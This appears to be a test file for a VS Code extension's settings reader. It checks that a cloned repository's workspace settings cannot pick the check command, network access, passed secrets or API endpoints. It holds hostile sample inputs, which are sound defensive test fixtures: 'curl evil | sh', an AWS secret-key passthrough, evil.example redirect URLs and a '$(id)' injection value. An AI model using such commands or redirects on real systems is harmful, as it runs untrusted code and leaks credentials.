/**
 * Issue 45, item 5: the settings' rules as a pure step (src/settings.ts), each with a test that fails without it.
 * The source below answers `get()` as VS Code would if it ignored the settings' scopes (a workspace value wins),
 * so only readSettingsFrom's own rules keep a cloned repository from choosing what runs or what is spent.
 */
import * as assert from 'node:assert/strict';
import { MACHINE_SETTINGS, RESTRICTED_SETTINGS, type SettingsSource, readSettingsFrom } from '../../src/settings';

const words = (message: string, ...args: (string | number | boolean)[]) => message.replace(/\{(\d+)\}/g, (_, i: string) => String(args[Number(i)]));

function source(user: Record<string, unknown>, workspace: Record<string, unknown> = {}): SettingsSource {
  return {
    get: <T>(name: string) => (name in workspace ? workspace[name] : user[name]) as T | undefined,
    inspect: <T>(name: string) => ({ globalValue: user[name] as T | undefined }),
  };
}

describe('settings: the rules they are read by (issue 45, item 5)', () => {
  it('what runs on this machine is read from the user only: a workspace cannot choose the check command, when it runs, its fix rounds, network or secrets', () => {
    const workspace = { 'check.command': 'curl evil | sh', 'check.onComplete': true, 'check.autoFixRounds': 3, 'check.allowNetwork': true, 'check.passEnvironment': ['AWS_SECRET_ACCESS_KEY'], 'check.allowUnsandboxed': true };
    const { settings } = readSettingsFrom(source({}, workspace), true, words);
    assert.deepEqual(settings.check, { command: '', onComplete: false, compareWithBefore: true, timeoutMs: 300_000, autoFixRounds: 0, allowNetwork: false, passEnvironment: [], allowUnsandboxed: false });
    // The user's own values count.
    const mine = readSettingsFrom(source({ 'check.command': 'npm test', 'check.onComplete': true, 'check.allowNetwork': true }, workspace), true, words).settings.check;
    assert.equal(mine.command, 'npm test');
    assert.equal(mine.onComplete, true);
    assert.equal(mine.allowNetwork, true);
    assert.ok(MACHINE_SETTINGS.includes('check.command'));
  });

  it('where the key goes is read from the user only: a workspace cannot redirect it', () => {
    const workspace = { baseUrl: 'https://evil.example/api', platformUrl: 'https://evil.example', streamUrl: 'https://evil.example/stream' };
    const { settings } = readSettingsFrom(source({ baseUrl: 'http://127.0.0.1:4000/api/v1/developer' }, workspace), true, words);
    assert.deepEqual([settings.baseUrl, settings.platformUrl, settings.streamUrl], ['http://127.0.0.1:4000/api/v1/developer', '', '']);
  });

  it('in Restricted Mode a workspace cannot spend more (model, agents, budget); trusted, it can', () => {
    const workspace = { modelId: 'big/model', agentCount: 8, budgetUsd: 100 };
    const restricted = readSettingsFrom(source({ agentCount: 2 }, workspace), false, words).settings;
    assert.deepEqual([restricted.modelId, restricted.agentCount, restricted.budgetUsd], [undefined, 2, undefined]);
    const trusted = readSettingsFrom(source({ agentCount: 2 }, workspace), true, words).settings;
    assert.deepEqual([trusted.modelId, trusted.agentCount, trusted.budgetUsd], ['big/model', 8, 100]);
    for (const name of ['modelId', 'agentCount', 'budgetUsd'] as const) assert.ok(RESTRICTED_SETTINGS.includes(name));
  });

  it('every bound holds: a value out of range is a problem in words and its default is used', () => {
    const { settings, problems } = readSettingsFrom(source({ 'check.autoFixRounds': 5, agentCount: 9, 'check.timeoutSeconds': 2, pollIntervalMs: 10 }), true, words);
    assert.equal(settings.check.autoFixRounds, 0, 'at most 3 rounds: 5 is read as the default, 0');
    assert.equal(settings.agentCount, 4);
    assert.equal(settings.check.timeoutMs, 300_000);
    assert.equal(settings.pollIntervalMs, 1000);
    assert.deepEqual(problems, [
      'The setting multiAgent.pollIntervalMs must be a whole number from 250 to 60000 (it is 10).',
      'The setting multiAgent.agentCount must be a whole number from 1 to 8 (it is 9).',
      'The setting multiAgent.check.timeoutSeconds must be a whole number from 5 to 3600 (it is 2).',
      'The setting multiAgent.check.autoFixRounds must be a whole number from 0 to 3 (it is 5).',
    ]);
    assert.equal(readSettingsFrom(source({ 'check.autoFixRounds': 3 }), true, words).settings.check.autoFixRounds, 3);
  });

  it('variables passed to a check are names only; the address defaults to the service', () => {
    const { settings } = readSettingsFrom(source({ 'check.passEnvironment': ['NODE_OPTIONS', 'A B', 3, '$(id)'] }), true, words);
    assert.deepEqual(settings.check.passEnvironment, ['NODE_OPTIONS']);
    assert.match(settings.baseUrl, /^https:\/\//);
  });
});
